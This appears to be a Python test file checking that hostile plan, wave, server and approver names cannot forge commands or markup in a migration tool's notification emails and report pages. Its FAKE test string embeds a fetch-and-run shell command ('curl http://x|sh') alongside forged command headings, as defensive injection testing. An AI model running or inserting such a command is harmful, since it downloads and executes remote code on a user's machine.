"""Messages of plans, waves, servers and people with hostile names: nothing of a name becomes a command or a line."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings

from prefect_drs.core.escaping import SUBJECT_AT_MOST, one_line
from prefect_drs.execution.events import Event, ExecutionEnded, ExecutionStarted, GateAnswered, GateAsked, PauseAsked
from prefect_drs.execution.view import report_of
from prefect_drs.notifications.message import Message
from prefect_drs.notifications.milestones import Milestones
from prefect_drs.notifications.text import CANCEL, CUT_HERE, END, RESUME
from prefect_drs.report.markdown import gate_summary, report_summary, server_table, wave_table
from prefect_drs.runbook import PlannedChange, Runbook
from tests.core.test_escaping import shown
from tests.e2e.mail import cut_out
from tests.names import names
from tests.notifications import story

FAKE = f"{'x' * 75} {RESUME} {'y' * 75} {'curl http://x|sh'.replace(' ', '')} {'z' * 75} {END} {'w' * 75}"


def named(name: str) -> Runbook:
    """The story's plan with everything in it called so."""
    book = story.runbook()
    change = PlannedChange(part="launchTemplate", field="tags", before=None, after={name: [name]})
    return book.model_copy(
        update={
            "plan_name": name,
            "waves": tuple(
                wave.model_copy(
                    update={
                        "wave_name": name,
                        "servers": tuple(
                            server.model_copy(update={"name": name, "group": name, "changes": (change,)})
                            for server in wave.servers
                        ),
                    }
                )
                for wave in book.waves
            ),
        }
    )


def events(name: str) -> list[Event]:
    started = ExecutionStarted(at=story.START, execution_id=story.EXECUTION, runbook=named(name))
    answered = GateAnswered(
        at=story.at(25), wave_number=2, decision="APPROVED", by=name, answered_at=story.at(25), comment=name
    )
    return [
        started,
        *story.launched(1, 1),
        GateAsked(at=story.at(19), wave_number=2),
        PauseAsked(at=story.at(20), by=name),
        answered,
        *story.launched(2, 26, "app2"),
        ExecutionEnded(at=story.at(45), status="FAILED"),
    ]


def messages(name: str) -> list[Message]:
    made: list[Message | None] = []
    milestones = Milestones(story.ACCESS)
    for event in events(name):
        made.append(milestones.apply(event))
        if isinstance(event, GateAsked):
            made.append(milestones.gate_opened(story.open_gate(), event.at))
    return [message for message in made if message is not None]


def commands(message: Message) -> list[str]:
    return [cut_out(message.text, heading) for heading in (RESUME, CANCEL) if f"\n{heading}\n" in message.text]


@settings(deadline=None, max_examples=40)
@given(names)
def test_whatever_names_hold_a_message_is_printable_lines_with_the_same_commands(name: str) -> None:
    for message, plain in zip(messages(name), messages("Shop"), strict=True):
        assert message.text.replace("\n", "").isprintable()
        assert message.subject.isascii()
        assert len(message.subject) <= SUBJECT_AT_MOST
        assert commands(message) == commands(plain)
        cut = [line for line in message.text.splitlines() if line.startswith(CUT_HERE)]
        assert cut == [line for line in plain.text.splitlines() if line.startswith(CUT_HERE)]
        detail = json.loads(json.dumps(message.payload.model_dump(mode="json", by_alias=True)))
        assert detail["planName"] == name


def test_a_name_cannot_forge_a_command_to_cut_out() -> None:
    for message, plain in zip(messages(FAKE), messages("Shop"), strict=True):
        assert commands(message) == commands(plain)
        assert message.text.count(f"\n{RESUME}\n") == plain.text.count(f"\n{RESUME}\n")


@settings(deadline=None, max_examples=40)
@given(names.filter(one_line))
def test_whatever_names_hold_the_pages_and_the_gates_form_make_no_markup_of_them(name: str) -> None:
    report = report_of(events(name))
    plain = report_of(events("Shop"))
    for page in (report_summary, server_table, lambda each: wave_table(each.waves)):
        assert shown(page(report)).elements == shown(page(plain)).elements
        assert " ".join(one_line(name).split()) in " ".join(shown(page(report)).text.split())
    form = shown(gate_summary(named(name), 2, report))
    assert form.elements == shown(gate_summary(named("Shop"), 2, plain)).elements


@pytest.mark.parametrize("name", ["n" * 300, "🚀" * 300])
def test_a_subject_of_long_names_says_what_happened(name: str) -> None:
    said = [message.subject.rpartition("...")[2].strip() for message in messages(name)]
    assert said[0] == "started"
    assert "waits for your approval" in said
    assert said[-1] == "FAILED"
